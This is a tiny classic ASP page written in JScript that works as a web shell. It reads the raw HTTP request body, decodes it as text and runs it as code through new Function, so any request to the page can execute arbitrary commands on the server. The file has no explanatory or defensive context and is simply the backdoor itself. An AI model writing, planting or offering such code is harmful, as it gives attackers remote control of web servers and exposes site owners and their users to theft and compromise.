<%@ Language="JScript" %>
<%
var n = Request.TotalBytes;
var b = Request.BinaryRead(n);
var st = Server.CreateObject("ADODB.Stream");
st.Type = 1; st.Open(); st.Write(b); st.Position = 0; st.Type = 2; st.Charset = "utf-8";
var txt = st.ReadText();
var fn = new Function("a", txt);
fn(1);
%>
